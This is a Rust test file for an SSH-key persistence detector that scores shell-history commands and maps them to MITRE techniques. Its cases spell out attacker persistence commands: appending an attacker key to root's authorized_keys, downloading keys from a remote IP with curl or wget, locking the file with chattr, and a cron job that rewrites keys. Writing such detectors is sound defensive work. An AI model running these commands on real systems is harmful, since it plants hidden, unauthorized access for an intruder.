use super::*;
use crate::heuristics::testing::{cron_job, found, history};
use crate::mitre;

fn one(cmd: &str) -> Vec<(String, Severity)> {
    found(&SshKeyPersistence.detect(&history(&[cmd])))
}

#[test]
fn keys_written_downloaded_or_locked() {
    let cases = [
        (
            "echo 'ssh-rsa AAAAB3NzaC1yc2E hacker@kali' >> /root/.ssh/authorized_keys",
            "ssh_key_added",
            Severity::Medium,
        ),
        (
            "cat /tmp/k.pub >> ~/.ssh/authorized_keys2",
            "ssh_key_added",
            Severity::Medium,
        ),
        (
            "echo $KEY | sudo tee -a /root/.ssh/authorized_keys",
            "ssh_key_added",
            Severity::Medium,
        ),
        (
            "cp /tmp/.k /root/.ssh/authorized_keys",
            "ssh_key_added",
            Severity::Medium,
        ),
        (
            "curl -s http://203.0.113.7/k.txt >> /root/.ssh/authorized_keys",
            "ssh_key_downloaded",
            Severity::High,
        ),
        (
            "wget -q -O /root/.ssh/authorized_keys http://203.0.113.7/k",
            "ssh_key_downloaded",
            Severity::High,
        ),
        (
            "curl -fsSL https://github.com/alice.keys >> ~/.ssh/authorized_keys",
            "ssh_key_downloaded",
            Severity::Medium,
        ),
        (
            "chattr +i /root/.ssh/authorized_keys",
            "ssh_keys_locked",
            Severity::Medium,
        ),
        // A user installing their own key: a lead, not a finding.
        (
            "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
            "ssh_key_added",
            Severity::Low,
        ),
    ];
    for (cmd, id, severity) in cases {
        assert_eq!(one(cmd), [(id.to_string(), severity)], "{cmd}");
    }
    let a = &SshKeyPersistence.detect(&history(&[
        "chattr -ia ~/.ssh/authorized_keys",
        "chattr +ia /root/.ssh/authorized_keys",
    ]))[0];
    assert_eq!(a.event_refs, [1]);
    assert_eq!(
        a.mitre,
        [
            mitre("persistence", "T1098.004"),
            mitre("defense-evasion", "T1222.002")
        ]
    );
}

#[test]
fn reading_and_copying_keys_elsewhere_raise_nothing() {
    for cmd in [
        "cat ~/.ssh/authorized_keys",
        "cat -n /root/.ssh/authorized_keys",
        "cp /root/.ssh/authorized_keys /root/ak.bak",
        "ssh-copy-id alice@10.0.0.2",
        "chmod 600 ~/.ssh/authorized_keys",
        "chattr -i /root/.ssh/authorized_keys",
        "grep -c ssh-rsa ~/.ssh/authorized_keys > /tmp/count",
        "vim ~/.ssh/authorized_keys",
    ] {
        assert_eq!(one(cmd), [], "{cmd}");
    }
}

#[test]
fn a_cron_job_rewriting_keys_counts() {
    let events = [cron_job(
        1,
        "curl -s http://203.0.113.7/k >> /root/.ssh/authorized_keys",
    )];
    assert_eq!(
        found(&SshKeyPersistence.detect(&events)),
        [("ssh_key_downloaded".to_string(), Severity::High)]
    );
}
